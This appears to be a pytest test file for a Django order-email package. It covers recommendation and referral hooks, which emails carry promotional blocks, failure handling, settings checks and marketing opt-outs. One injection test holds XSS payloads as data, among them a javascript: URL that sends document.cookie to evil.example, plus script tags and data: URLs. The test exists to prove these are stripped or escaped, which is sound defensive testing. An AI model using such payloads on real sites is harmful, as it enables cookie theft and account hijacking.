"""The recommendation hooks (docs/recommendations.rst): the order's own
get_mail_recommendations() / get_mail_referral(), the RECOMMENDATIONS_PROVIDER
setting, which emails get which block, and what a hostile or broken hook
can do to an email (nothing)."""

from __future__ import annotations

from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.db import transaction

from django_order_mail.delivery.sender import deliver
from django_order_mail.events import MailEvent
from django_order_mail.outbox.enqueue import PendingMail, enqueue
from django_order_mail.outbox.models import Status
from django_order_mail.recommendations.checks import check_recommendation_settings
from django_order_mail.rendering.context import build_context
from django_order_mail.rendering.render import render_event
from django_order_mail.rendering.sample import sample_context

pytestmark = pytest.mark.django_db

SHOP = "https://shop.example"
CALLS: list[dict] = []


def provider(order, event, *, language, limit, **kwargs):
    """A shop's provider, named by its dotted path in the settings."""
    CALLS.append({"order": order.pk, "event": event, "language": language, "limit": limit})
    return [{"name": f"Pick {n} for {event}", "url": f"{SHOP}/p/{n}/"} for n in range(1, 10)]


def broken_provider(order, event, **kwargs):
    raise ConnectionError("the recommendation service is down")


@pytest.fixture(autouse=True)
def no_calls():
    CALLS.clear()


def context_for(order, event, **kw):
    return build_context(order, event, email_id=1, **kw)


def names(context) -> list[str]:
    return [p["name"] for p in context["recommended_products"]]


def links(page: str) -> list[str]:
    """The href of every real <a> tag (not text that looks like one)."""
    found: list[str] = []

    class Links(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag == "a":
                found.extend(value or "" for name, value in attrs if name == "href")

    Links().feed(page)
    return found


def queued(order, event=MailEvent.ORDER_CONFIRMATION):
    with transaction.atomic():
        [row] = enqueue(order, [PendingMail(event)])
    return row


# -- where the products come from -----------------------------------------------------------


def test_off_by_default(order):
    assert context_for(order, MailEvent.ORDER_CONFIRMATION)["recommended_products"] == []
    assert context_for(order, MailEvent.SHIPPING_CONFIRMATION)["referral"] is None


def test_the_provider_setting_gets_order_event_language_and_limit(order, mail_settings):
    mail_settings(RECOMMENDATIONS_PROVIDER="tests.recommendations.test_hook.provider")
    order.language = "nb"
    context = context_for(order, MailEvent.DELIVERED)
    assert names(context) == [f"Pick {n} for delivered" for n in (1, 2, 3)]  # RECOMMENDATIONS_MAX_PRODUCTS
    [call] = CALLS
    assert call == {"order": order.pk, "event": "delivered", "language": "nb", "limit": 3}


def test_the_orders_own_hook_wins_over_the_setting(order, mail_settings):
    mail_settings(
        RECOMMENDATIONS_PROVIDER="tests.recommendations.test_hook.provider", RECOMMENDATIONS_MAX_PRODUCTS=2
    )
    order.get_mail_recommendations = lambda event, *, language, limit, **kw: [
        {"name": "Wool beanie", "url": f"{SHOP}/beanie/", "image_url": f"{SHOP}/beanie.png", "price": "24.90"}
    ]
    [product] = context_for(order, MailEvent.ORDER_CONFIRMATION)["recommended_products"]
    assert product == {
        "name": "Wool beanie",
        "url": f"{SHOP}/beanie/",
        "image_url": f"{SHOP}/beanie.png",
        "price": Decimal("24.90"),
        "currency": "USD",  # the email's currency when the hook gives none
    }
    assert CALLS == []


@pytest.mark.parametrize(
    ("event", "has_products", "has_referral"),
    [
        (MailEvent.ORDER_CONFIRMATION, True, False),
        (MailEvent.SHIPPING_CONFIRMATION, True, True),
        (MailEvent.DELIVERED, True, False),
        (MailEvent.CANCELLATION, False, False),
        (MailEvent.REFUND, False, False),
        (MailEvent.PAYMENT_FAILED, False, False),
    ],
)
def test_which_emails_get_which_block(order, mail_settings, event, has_products, has_referral):
    mail_settings(
        RECOMMENDATIONS_PROVIDER="tests.recommendations.test_hook.provider",
        RECOMMENDATIONS_REFERRAL_URL=f"{SHOP}/refer/",
    )
    context = context_for(order, event)
    assert bool(context["recommended_products"]) is has_products
    assert (context["referral"] == {"url": f"{SHOP}/refer/", "text": ""}) is has_referral


def test_a_marketplace_order_gets_no_promotion(order, mail_settings):
    mail_settings(
        RECOMMENDATIONS_PROVIDER="tests.recommendations.test_hook.provider",
        RECOMMENDATIONS_REFERRAL_URL=f"{SHOP}/refer/",
        CHANNELS={"wholesale": {"recommendations": False}},
    )
    for channel in ("amazon_fbm", "aliexpress", "wholesale"):
        order.sales_channel = channel
        context = context_for(order, MailEvent.SHIPPING_CONFIRMATION)
        assert context["recommended_products"] == [] and context["referral"] is None
    assert CALLS == []


def test_the_referral_hook_can_give_text_in_the_emails_language(order, mail_settings):
    order.language = "de"
    order.get_mail_referral = lambda event, *, language, **kw: {
        "url": f"{SHOP}/r/kari-10/",
        "text": {"de": "Schenke 10 %, bekomme 10 %."}[language],
    }
    rendered = render_event(
        MailEvent.SHIPPING_CONFIRMATION, context_for(order, MailEvent.SHIPPING_CONFIRMATION), language="de"
    )
    assert "Schenke 10 %, bekomme 10 %." in rendered.text and f"{SHOP}/r/kari-10/" in rendered.html


# -- attacks and failures ------------------------------------------------------------------------


def test_a_hook_returning_javascript_urls_and_html_names_cannot_inject(order):
    order.get_mail_recommendations = lambda event, **kw: [
        {"name": "Free gift", "url": "javascript:fetch('https://evil.example/?c='+document.cookie)"},
        {"name": "Gift", "url": "JAVASCRIPT:alert(1)"},
        {"name": "Data", "url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
        {
            "name": '<a href="https://evil.example">Claim your prize</a><script>alert(1)</script>',
            "url": f"{SHOP}/x/",
        },
        {"name": "Mug", "url": f"{SHOP}/mug/", "image_url": "javascript:alert(1)"},
    ]
    order.get_mail_referral = lambda event, **kw: {"url": "javascript:alert(2)", "text": "<b>Invite</b>"}
    context = context_for(order, MailEvent.SHIPPING_CONFIRMATION)
    rendered = render_event(MailEvent.SHIPPING_CONFIRMATION, context, language="en")
    page = rendered.html
    assert "javascript:" not in page.lower() and "data:text/html" not in page
    assert "<script>alert(1)</script>" not in page and '<a href="https://evil.example">' not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown as the text it is
    hrefs = links(page)
    assert f"{SHOP}/x/" in hrefs and f"{SHOP}/mug/" in hrefs and "https://evil.example" not in hrefs
    assert 'data-promotional="referral"' not in page  # its only link was javascript:
    assert "javascript:" not in rendered.text.lower()


def test_a_failing_provider_costs_the_block_not_the_email(order, mail_settings, broker, esp):
    mail_settings(RECOMMENDATIONS_PROVIDER="tests.recommendations.test_hook.broken_provider")
    order.get_mail_referral = lambda event, **kw: 1 / 0
    row = queued(order, MailEvent.SHIPPING_CONFIRMATION)
    assert deliver(row.pk) == Status.SENT
    [message] = esp.sent
    assert "data-promotional" not in message.alternatives[0][0]


def test_the_sender_sends_the_block_and_the_preview_of_the_sample_shows_one(
    order, mail_settings, broker, esp
):
    mail_settings(RECOMMENDATIONS_PROVIDER="tests.recommendations.test_hook.provider")
    row = queued(order)
    assert deliver(row.pk) == Status.SENT
    [message] = esp.sent
    assert "Pick 1 for order_confirmation" in message.alternatives[0][0]
    assert "Pick 1 for order_confirmation" in message.body
    sample = sample_context(MailEvent.ORDER_CONFIRMATION)  # the admin's sample order: made-up products
    assert [p["name"] for p in sample["recommended_products"]] == [f"Sample product {n}" for n in (1, 2, 3)]


# -- checks -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("RECOMMENDATIONS_PROVIDER", "tests.recommendations.test_hook.nothing_here"),
        ("RECOMMENDATIONS_PROVIDER", 42),
        ("RECOMMENDATIONS_EVENTS", ["order_confirmation", "no_such_email"]),
        ("RECOMMENDATIONS_REFERRAL_EVENTS", ["low_score_alert"]),  # staff mail
        ("RECOMMENDATIONS_MAX_PRODUCTS", -1),
        ("RECOMMENDATIONS_MIN_ORDERS", 0),
        ("RECOMMENDATIONS_LOOKBACK_DAYS", "a year"),
        ("RECOMMENDATIONS_REFERRAL_URL", "javascript:alert(1)"),
        ("RECOMMENDATIONS_REFERRAL_URL", "/refer/"),
    ],
)
def test_bad_settings_are_reported(mail_settings, key, value):
    assert check_recommendation_settings() == []
    mail_settings(**{key: value})
    [error] = check_recommendation_settings()
    assert key in error.msg and error.id.startswith("django_order_mail.E90")


# -- customers who said no to marketing ------------------------------------------------------


@pytest.mark.parametrize(
    ("scope", "reason", "promoted"),
    [
        ("commercial", "unsubscribe", False),  # left every commercial email
        ("all", "complaint", False),  # marked an email as spam
        ("abandoned_cart", "unsubscribe", True),  # only the cart reminders
    ],
)
def test_no_promotion_for_a_customer_who_left_commercial_email(
    order, mail_settings, broker, esp, scope, reason, promoted
):
    from django_order_mail.tracking.models import Suppression

    mail_settings(
        RECOMMENDATIONS_PROVIDER="tests.recommendations.test_hook.provider",
        RECOMMENDATIONS_REFERRAL_URL=f"{SHOP}/refer/",
    )
    Suppression.objects.create(address=order.email.upper(), scope=scope, reason=reason)
    row = queued(order, MailEvent.SHIPPING_CONFIRMATION)
    assert deliver(row.pk) == Status.SENT  # the order email itself always goes
    [message] = esp.sent
    page = message.alternatives[0][0]
    assert ("data-promotional" in page) is promoted
    assert (f"{SHOP}/refer/" in message.body) is promoted  # the products may be trimmed (80/20)
